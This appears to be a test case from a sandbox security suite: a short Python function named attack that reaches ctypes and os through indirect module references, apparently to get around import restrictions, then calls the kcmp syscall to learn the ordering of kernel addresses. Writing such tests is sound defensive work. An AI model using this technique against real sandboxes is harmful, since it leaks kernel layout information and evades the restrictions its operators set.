"""Learns the order of kernel addresses by comparing two of its descriptors (kcmp).

machine: x86_64
ending: returned
value: [-1, 1]
"""

import random
import sys


def attack():
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    return [libc.syscall(312, random._os.getpid(), random._os.getpid(), 0, 3, 4), ctypes.get_errno()]
